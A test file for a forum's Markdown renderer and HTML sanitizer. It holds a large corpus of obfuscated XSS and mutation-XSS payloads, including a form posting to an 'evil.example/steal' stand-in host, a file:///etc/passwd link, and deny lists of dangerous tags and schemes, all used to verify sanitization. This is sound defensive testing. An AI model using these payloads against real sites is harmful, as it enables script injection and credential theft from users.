"""Markdown rendering is safe against hostile input and still renders ordinary Markdown.

No database is involved: these tests call `render_markdown`, `sanitize_html` and `mentioned_keys`
directly and inspect the HTML with the standard library's parser.
"""

from __future__ import annotations

import html
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from community.core.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    MAX_MENTIONS,
    MAX_NESTING,
    render_markdown,
    sanitize_html,
)
from community.core.markdown import mentioned_keys as keys_in_tokens
from community.core.markdown import parse as parse_markdown

# --------------------------------------------------------------------------------------------
# The harmlessness checker
# --------------------------------------------------------------------------------------------

FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input",
        "textarea", "base", "meta", "link", "frame", "frameset", "applet", "noscript",
        "template", "title", "button", "select", "option", "video", "audio", "source", "details",
        "xmp", "plaintext", "noembed", "noframes", "div", "span",
    }
)  # fmt: skip
FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcdoc", "formaction", "action", "xlink:href"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "background"})
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:", "#", "/")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
_SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:")


class _Element:
    def __init__(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tag = tag
        self.attrs = attrs

    def get(self, name: str) -> str | None:
        for key, value in self.attrs:
            if key == name:
                return value
        return None


class _Collector(HTMLParser):
    """Records every start tag (with attributes) and the text outside tags."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[_Element] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(_Element(tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(markup: str) -> _Collector:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector


def normalize_url(value: str) -> str:
    """What a browser effectively sees when it decides on a URL's scheme."""
    unescaped = html.unescape(html.unescape(value))
    kept = (
        char
        for char in unescaped
        if not char.isspace() and unicodedata.category(char) not in {"Cc", "Cf"}
    )
    return unicodedata.normalize("NFKC", "".join(kept)).lower()


def url_is_safe(value: str) -> bool:
    url = normalize_url(value)
    if url.startswith(DANGEROUS_SCHEMES):
        return False
    if url.startswith(SAFE_URL_PREFIXES):
        return True
    return _SCHEME.match(url) is None  # relative, no scheme at all


def problems(markup: str) -> list[str]:
    """Every reason the rendered HTML would not be harmless; empty when it is."""
    found: list[str] = []
    collector = parse(markup)
    if collector.comments:
        found.append(f"comment survived: {collector.comments!r}")
    for element in collector.elements:
        tag = element.tag
        if tag in FORBIDDEN_TAGS:
            found.append(f"forbidden element <{tag}>")
        if tag not in ALLOWED_TAGS:
            found.append(f"element <{tag}> is not on the allow-list")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in element.attrs:
            if name.startswith("on"):
                found.append(f"event handler {name}= on <{tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                found.append(f"forbidden attribute {name}= on <{tag}>")
            if name.startswith(("hx-", "data-")):
                found.append(f"attribute {name}= on <{tag}>")
            if name not in allowed:
                found.append(f"attribute {name}= on <{tag}> is not on the allow-list")
            if name in URL_ATTRIBUTES and not url_is_safe(value or ""):
                found.append(f"unsafe URL {name}={value!r} on <{tag}>")
            if tag == "code" and name == "class" and not (value or "").startswith("language-"):
                found.append(f"class={value!r} on <code>")
        if tag == "img":
            src = element.get("src")
            if src is not None and not normalize_url(src).startswith("https://"):
                found.append(f"<img> src={src!r} is not https")
        if tag == "a" and element.get("href") is not None:
            rel = (element.get("rel") or "").split()
            if "nofollow" not in rel or "ugc" not in rel:
                found.append(f"<a href={element.get('href')!r}> without rel nofollow ugc: {rel}")
    return found


def assert_harmless(markup: str) -> None:
    issues = problems(markup)
    assert not issues, f"{issues}\n--- output ---\n{markup}"


def test_checker_catches_what_it_should() -> None:
    """The checker itself must flag each kind of danger, or the corpus proves nothing."""
    dangerous = [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)" rel="nofollow ugc">x</a>',
        '<a href=" &#106;ava&#x09;script:alert(1)" rel="nofollow ugc">x</a>',
        '<a href="JAVASCRIPT:alert(1)" rel="nofollow ugc">x</a>',
        '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)" rel="nofollow ugc">x</a>',
        '<a href="https://example.com">no rel</a>',
        '<img src="http://tracker.example/p.png">',
        '<p style="color:red">x</p>',
        '<div hx-post="/logout">x</div>',
        '<p data-x="1">x</p>',
        "<svg></svg>",
        "<!-- hidden -->",
        '<code class="evil">x</code>',
    ]
    for markup in dangerous:
        assert problems(markup), markup
    assert problems('<a href="https://example.com" rel="nofollow ugc">ok</a>') == []


# --------------------------------------------------------------------------------------------
# Hostile corpus
# --------------------------------------------------------------------------------------------

HOSTILE = [
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", id="script-src-upper"),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        id="math-mglyph-mxss",
    ),
    pytest.param('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', id="math-xlink-href"),
    pytest.param(
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', id="svg-style-mxss"
    ),
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>">', id="iframe-srcdoc"),
    pytest.param("[x](javascript:alert(1))", id="link-javascript"),
    pytest.param("[x](JaVaScRiPt:alert(1))", id="link-javascript-mixed-case"),
    pytest.param("[x](java&#x09;script:alert(1))", id="link-tab-entity"),
    pytest.param("[x](java\tscript:alert(1))", id="link-raw-tab"),
    pytest.param("[x](&#106;avascript:alert(1))", id="link-decimal-entity"),
    pytest.param("[x](&#x6A;avascript&#x3A;alert(1))", id="link-hex-entities"),
    pytest.param("[x](javascript&colon;alert(1))", id="link-named-colon"),
    pytest.param("[x](  javascript:alert(1))", id="link-leading-spaces"),
    pytest.param("[x](<javascript:alert(1)>)", id="link-angle-destination"),
    pytest.param("[x](vbscript:msgbox(1))", id="link-vbscript"),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="link-data-html"
    ),
    pytest.param("[x](file:///etc/passwd)", id="link-file"),
    pytest.param("![x](javascript:alert(1))", id="image-javascript"),
    pytest.param("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", id="image-data-svg"),
    pytest.param("![x](http://tracker.example/p.png)", id="image-http-tracker"),
    pytest.param("![x](//tracker.example/p.png)", id="image-protocol-relative"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="raw-anchor-javascript"),
    pytest.param('<div hx-post="/logout" hx-trigger="load">x</div>', id="htmx-attributes"),
    pytest.param('<p data-hx-post="/logout" data-hx-trigger="load">x</p>', id="htmx-data-prefix"),
    pytest.param(
        '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
        id="form-button",
    ),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="button-formaction"),
    pytest.param("<style>body{display:none}</style>", id="style-element"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="style-attribute"),
    pytest.param('<object data="https://evil.example/x.swf"></object>', id="object"),
    pytest.param('<embed src="https://evil.example/x.swf">', id="embed"),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">', id="meta-refresh"
    ),
    pytest.param('<link rel=stylesheet href="https://evil.example/x.css">', id="link-stylesheet"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", id="details-ontoggle"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param('<body onload="alert(1)">', id="body-onload"),
    pytest.param(
        '[x](https://example.com ""><script>alert(1)</script>")', id="link-title-breakout"
    ),
    pytest.param(
        "[x](https://example.com '\" onmouseover=alert(1) x=\"')", id="link-title-attr-inject"
    ),
    pytest.param(
        '![x](https://example.com/a.png "\\" onerror=\\"alert(1)")', id="image-title-escaped"
    ),
    pytest.param("<!--<script>alert(1)</script>-->", id="comment-hiding-script"),
    pytest.param("<!--><script>alert(1)</script>-->", id="comment-abrupt-close"),
    pytest.param("&lt;script&gt;alert(1)&lt;/script&gt;", id="entity-encoded-script"),
    pytest.param("&amp;lt;script&amp;gt;alert(1)", id="double-encoded-script"),
    pytest.param("<javascript:alert(1)>", id="autolink-javascript"),
    pytest.param("<JAVASCRIPT:alert(1)>", id="autolink-javascript-upper"),
    pytest.param("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    pytest.param("<data:text/html,<script>alert(1)</script>>", id="autolink-data"),
    pytest.param("[x][1]\n\n[1]: javascript:alert(1)", id="reference-javascript"),
    pytest.param('[x][1]\n\n[1]: <javascript:alert(1)> "t"', id="reference-angle-javascript"),
    pytest.param("![x][img]\n\n[img]: http://tracker.example/p.png", id="reference-image-http"),
    pytest.param(
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        id="table-cell-payloads",
    ),
    pytest.param(
        '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |\n| ![x](http://t.example/p.png "t") |',
        id="table-cell-image",
    ),
    pytest.param("`<script>alert(1)</script>`", id="code-span-script"),
    pytest.param("```\n<script>alert(1)</script>\n```", id="fenced-code-script"),
    pytest.param('```"><img src=x onerror=alert(1)>\nx\n```', id="fence-info-breakout"),
    pytest.param("```javascript:alert(1)\nx\n```", id="fence-info-javascript"),
    pytest.param("    <iframe src=javascript:alert(1)>", id="indented-code-iframe"),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"
    ),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea"),
    pytest.param("<title><script>alert(1)</script></title>", id="title"),
    pytest.param("<xmp><script>alert(1)</script></xmp>", id="xmp"),
    pytest.param("<plaintext><script>alert(1)</script>", id="plaintext"),
    pytest.param("[x](ｊａｖａｓｃｒｉｐｔ:alert(1))", id="link-fullwidth-scheme"),
    pytest.param("[x](javascript\uff1aalert(1))", id="link-fullwidth-colon"),
    pytest.param("[x](\u200bjavascript:alert(1))", id="link-zero-width-space"),
    pytest.param("[x](java\x00script:alert(1))", id="link-nul-byte"),
    pytest.param("[x](\x01javascript:alert(1))", id="link-leading-control"),
    pytest.param("[x](java\x0bscript:alert(1))", id="link-vertical-tab"),
    pytest.param("[x](javas\x1fcript:alert(1))", id="link-unit-separator"),
    pytest.param("[x](java%0Ascript:alert(1))", id="link-percent-newline"),
    pytest.param("[x](%6Aavascript:alert(1))", id="link-percent-encoded-j"),
    pytest.param("[x](javascript://%0Aalert(1))", id="link-javascript-comment-trick"),
    pytest.param("[<img src=x onerror=alert(1)>](https://example.com)", id="link-text-img"),
    pytest.param("[![x](http://t.example/p.png)](javascript:alert(1))", id="image-in-link"),
    pytest.param("<a href=\"https://example.com\" onclick='alert(1)'>x</a>", id="anchor-onclick"),
    pytest.param("~~<script>alert(1)</script>~~", id="strikethrough-script"),
    pytest.param("> <script>alert(1)</script>\n> [x](javascript:alert(1))", id="quote-payloads"),
    pytest.param("- <svg onload=alert(1)>\n- [x](vbscript:x)", id="list-payloads"),
    pytest.param("# <img src=x onerror=alert(1)>", id="heading-img"),
    pytest.param("<scr<script>ipt>alert(1)</script>", id="split-script-tag"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-slash-separators"),
    pytest.param("<img src=`x` onerror=`alert(1)`>", id="img-backtick-quotes"),
    pytest.param("\x00<script>alert(1)</script>", id="nul-before-script"),
]


def test_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 40
    ids = [param.id for param in HOSTILE]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_input_renders_harmless(source: str) -> None:
    output = render_markdown(source)
    assert_harmless(output)
    assert sanitize_html(output) == output


@pytest.mark.parametrize(
    "source",
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
    ],
    ids=["entities", "raw-html", "code-span", "fenced-code", "indented-code"],
)
def test_script_markup_stays_visible_text(source: str) -> None:
    output = render_markdown(source)
    assert "<script" not in output
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert "<script>alert(1)</script>" in "".join(parse(output).text)


def test_code_keeps_payload_as_escaped_text() -> None:
    output = render_markdown("`<img src=x onerror=alert(1)>`")
    assert output == "<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>\n"
    fenced = render_markdown('```html\n<a href="javascript:alert(1)">x</a>\n```')
    assert fenced == (
        '<pre><code class="language-html">'
        '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;\n'  # nh3 re-serializes &quot; as "
        "</code></pre>\n"
    )


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "[x][1]\n\n[1]: javascript:alert(1)",
    ],
    ids=["javascript", "vbscript", "data", "file", "autolink", "reference"],
)
def test_dangerous_links_are_not_links(source: str) -> None:
    assert "<a" not in render_markdown(source)


def test_http_image_loses_its_src() -> None:
    output = render_markdown("![pixel](http://tracker.example/p.png)")
    assert output == '<p><img alt="pixel"></p>\n'


# --------------------------------------------------------------------------------------------
# Ordinary Markdown still renders
# --------------------------------------------------------------------------------------------


def test_headings() -> None:
    assert render_markdown("# One\n\n### Three") == "<h1>One</h1>\n<h3>Three</h3>\n"
    assert render_markdown("Two\n---") == "<h2>Two</h2>\n"


def test_lists() -> None:
    assert render_markdown("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"
    assert render_markdown("1. a\n2. b") == "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"
    assert render_markdown("3. c\n4. d").startswith('<ol start="3">')


def test_fenced_code_keeps_language_class() -> None:
    output = render_markdown("```python\nprint('hi')\n```")
    assert output == "<pre><code class=\"language-python\">print('hi')\n</code></pre>\n"


def test_inline_code_and_emphasis() -> None:
    output = render_markdown("Use `pip install` **now**, *please*.")
    assert output == "<p>Use <code>pip install</code> <strong>now</strong>, <em>please</em>.</p>\n"


def test_table() -> None:
    output = render_markdown("| Name | Size |\n|:-----|-----:|\n| a | 1 |")
    collector = parse(output)
    tags = [element.tag for element in collector.elements]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert "".join(collector.text).split() == ["Name", "Size", "a", "1"]
    assert "style=" not in output  # markdown-it's style="text-align:..." must not get through


def test_table_column_alignment_survives() -> None:
    output = render_markdown("| Name | Size |\n|:-----|-----:|\n| a | 1 |")
    cells = [el.get("align") for el in parse(output).elements if el.tag in {"th", "td"}]
    assert cells == ["left", "right", "left", "right"]


def test_strikethrough_and_blockquote() -> None:
    assert render_markdown("~~gone~~") == "<p><s>gone</s></p>\n"
    assert render_markdown("> quoted") == "<blockquote>\n<p>quoted</p>\n</blockquote>\n"


def test_https_link_keeps_href_and_gets_rel() -> None:
    output = render_markdown('[docs](https://example.com/a?b=1&c=2 "Docs")')
    assert output == (
        '<p><a href="https://example.com/a?b=1&amp;c=2" title="Docs" '
        f'rel="{LINK_REL}">docs</a></p>\n'
    )
    assert LINK_REL == "nofollow ugc noopener noreferrer"


def test_autolink_and_relative_links() -> None:
    assert render_markdown("<https://example.com>") == (
        f'<p><a href="https://example.com" rel="{LINK_REL}">https://example.com</a></p>\n'
    )
    assert render_markdown("[t](/t/42#post-7)") == (
        f'<p><a href="/t/42#post-7" rel="{LINK_REL}">t</a></p>\n'
    )


def test_mailto_link() -> None:
    output = render_markdown("[mail](mailto:help@example.com)")
    assert output == f'<p><a href="mailto:help@example.com" rel="{LINK_REL}">mail</a></p>\n'


def test_https_image_keeps_src_and_alt() -> None:
    output = render_markdown('![a cat](https://img.example/cat.png "Cat")')
    assert output == '<p><img src="https://img.example/cat.png" alt="a cat" title="Cat"></p>\n'


def test_sanitizer_strips_classes_that_are_not_languages() -> None:
    assert sanitize_html('<code class="hx-x">x</code>') == "<code>x</code>"
    assert sanitize_html('<code class="language-rust">x</code>') == (
        '<code class="language-rust">x</code>'
    )
    assert sanitize_html('<img src="http://t.example/p.png" alt="p">') == '<img alt="p">'


# --------------------------------------------------------------------------------------------
# Property tests
# --------------------------------------------------------------------------------------------

FRAGMENTS = [
    "<", ">", '"', "'", "`", "```", "~~~", "[", "]", "](", ")", "(", "!", "*", "_", "~~", "#",
    "> ", "- ", "1. ", "|", "---", "\n", "\n\n", "    ", "\t", "&", "&#", "&#x", ";", ":",
    "javascript:", "JaVaScRiPt:", "vbscript:", "data:", "http://", "https://", "mailto:",
    "//", "/", "\\", "<script>", "</script>", "<img", " src=", " onerror=", "alert(1)",
    "<svg", "<math>", "<a href=", "<!--", "-->", "<style>", " style=", " hx-post=", "\x00",
    "\u200b", "ｊ", "%0a", "&#106;", "&colon;", "@bob", "<div>", "<p>", "</p>",
]  # fmt: skip

markdownish = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40).map(
    "".join
)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_arbitrary_text_renders_to_a_sanitizer_fixpoint(source: str) -> None:
    output = render_markdown(source)
    assert sanitize_html(output) == output
    assert_harmless(output)


@settings(max_examples=200, deadline=None)
@given(markdownish)
def test_markdownish_text_renders_to_a_sanitizer_fixpoint(source: str) -> None:
    output = render_markdown(source)
    assert sanitize_html(output) == output
    assert_harmless(output)


# --------------------------------------------------------------------------------------------
# Deep nesting
# --------------------------------------------------------------------------------------------


def max_depth(markup: str, tag: str) -> int:
    depth = deepest = 0
    for match in re.finditer(rf"<(/?){tag}\b", markup):
        depth += -1 if match.group(1) else 1
        deepest = max(deepest, depth)
    return deepest


def test_deeply_nested_blockquotes_are_bounded() -> None:
    output = render_markdown(">" * 5000 + " deep")
    assert_harmless(output)
    assert 0 < max_depth(output, "blockquote") <= MAX_NESTING
    assert output.count("<blockquote>") <= MAX_NESTING
    assert output.count("<blockquote>") == output.count("</blockquote>")


def test_deeply_nested_lists_are_bounded() -> None:
    output = render_markdown("* " * 5000 + "deep")
    assert_harmless(output)
    assert 0 < max_depth(output, "ul") <= MAX_NESTING
    assert output.count("<ul>") == output.count("</ul>")


@pytest.mark.parametrize(
    "source",
    [
        "*" * 5000,
        "*" * 5000 + "x" + "*" * 5000,
        "_" * 5000 + "x" + "_" * 5000,
        "[" * 5000,
        "[" * 5000 + "x" + "]" * 5000,
        "[" * 5000 + "x" + "](https://example.com)" * 5000,
        "![" * 5000 + "x" + "](https://example.com/a.png)" * 5000,
        "`" * 5000 + "x",
        "<" * 5000 + "script>",
        "- " * 2500 + "> " * 2500 + "x",
    ],
    ids=[
        "stars",
        "emphasis",
        "underscores",
        "brackets",
        "bracket-pairs",
        "nested-links",
        "nested-images",
        "backticks",
        "angle-brackets",
        "lists-and-quotes",
    ],
)
def test_deep_inline_nesting_renders_bounded(source: str) -> None:
    output = render_markdown(source)
    assert_harmless(output)
    assert len(output) < 10 * len(source) + 1000  # linear, no blow-up
    assert max_depth(output, "a") <= 1  # links never nest
    for tag in ("blockquote", "ul", "li"):
        assert max_depth(output, tag) <= MAX_NESTING, tag
    # Emphasis is capped separately (see test_emphasis_nesting_is_capped); in any case it is
    # bounded by the input: each level costs two delimiter characters on each side.
    for tag in ("em", "strong"):
        assert max_depth(output, tag) <= len(source) // 4, tag


def test_emphasis_nesting_is_capped() -> None:
    output = render_markdown("*" * 5000 + "x" + "*" * 5000)
    assert max_depth(output, "strong") + max_depth(output, "em") <= MAX_NESTING


# --------------------------------------------------------------------------------------------
# @mentions
# --------------------------------------------------------------------------------------------


def mentioned_keys(source: str) -> list[str]:
    return keys_in_tokens(parse_markdown(source))


def test_mention_is_found_and_case_folded() -> None:
    assert mentioned_keys("Thanks @Jordan_K!") == ["jordan_k"]
    assert mentioned_keys("@ANA") == ["ana"]


def test_email_addresses_are_not_mentions() -> None:
    assert mentioned_keys("Write to ana@example.com or support@help.example.org") == []
    assert mentioned_keys("ana@example.com and @bob") == ["bob"]


def test_mentions_in_code_are_ignored() -> None:
    assert mentioned_keys("Run `ping @carol` now, @dave") == ["dave"]
    assert mentioned_keys("```\n@erin\n```\n@fay") == ["fay"]
    assert mentioned_keys("~~~python\nx = '@gus'\n~~~") == []
    assert mentioned_keys("    @hal is indented code") == []


def test_mentions_are_deduplicated_case_insensitively() -> None:
    assert mentioned_keys("@Ana @ana @ANA @bob @Ana") == ["ana", "bob"]


def test_mentions_are_capped() -> None:
    names = [f"user{number:02d}" for number in range(30)]
    keys = mentioned_keys(" ".join(f"@{name}" for name in names))
    assert MAX_MENTIONS == 20
    assert keys == names[:MAX_MENTIONS]


def test_mentions_keep_order_of_first_appearance() -> None:
    assert mentioned_keys("@zed then @amy then @mo then @amy") == ["zed", "amy", "mo"]


def test_mention_trailing_punctuation_is_dropped() -> None:
    assert mentioned_keys("Ask @lee.") == ["lee"]
    assert mentioned_keys("Ask @lee-, or @kim...") == ["lee", "kim"]
    assert mentioned_keys("(@max), @sam: @jo.anne") == ["max", "sam", "jo.anne"]


@pytest.mark.parametrize(
    "source",
    [
        "``@alice``",
        "`a\n@dave`",
        "```\n@carol\n",
        "````\n```\n@erin\n````",
    ],
    ids=["double-backtick-span", "multiline-span", "unclosed-fence", "longer-fence"],
)
def test_mentions_in_other_code_forms_are_ignored(source: str) -> None:
    assert "<code>" in render_markdown(source)  # Markdown really renders the mention as code
    assert mentioned_keys(source) == []


def test_mention_in_indented_list_paragraph_is_found() -> None:
    source = "- item\n\n    @gina please look"
    assert "<code>" not in render_markdown(source)  # Markdown renders it as a paragraph
    assert mentioned_keys(source) == ["gina"]


def test_mention_edge_cases() -> None:
    assert mentioned_keys("@ alone, @_x and @a") == []  # empty, leading underscore, too short
    assert mentioned_keys("https://social.example/@bob and [@ann](/u/ann)") == []
    assert mentioned_keys("") == []
